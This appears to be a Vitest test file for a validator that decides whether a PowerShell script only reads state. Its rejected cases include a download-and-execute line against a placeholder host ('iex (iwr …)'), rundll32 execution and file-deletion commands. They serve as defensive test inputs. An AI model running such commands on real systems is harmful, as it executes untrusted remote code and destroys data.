import { expect, test } from 'vitest';
import { onlyAsks } from './powershell.ts';

test.each([
  `$ProgressPreference = "SilentlyContinue"; $part = Get-ItemProperty "HKLM:\\SYSTEM"; Write-Output $part.LongPathsEnabled`,
  'Write-Output (Get-ItemProperty HKLM:/SYSTEM).Long',
  'Get-Process | Sort-Object -Property CPU | Select-Object -First 5',
  '(Get-Host).Version',
])('only asks: %s', (script) => {
  expect(onlyAsks(script)).toBe(true);
});

test.each([
  '',
  'iex (iwr http://a.weir.test/p)',
  'calc',
  '$a = calc',
  'rundll32 a.dll,Run',
  'Write-Output "$(calc)"',
  'Write-Output (calc)',
  'Write-Output (Get-Item a).Delete()',
  'Get-Content a | % { & $_ }',
  '$a = Get-Content a; & $a',
  'ri a',
  '[IO.File]::Delete(1)',
  'Get-Item a > b',
  '$UNKNOWN(1)',
])('may do something: %s', (script) => {
  expect(onlyAsks(script)).toBe(false);
});
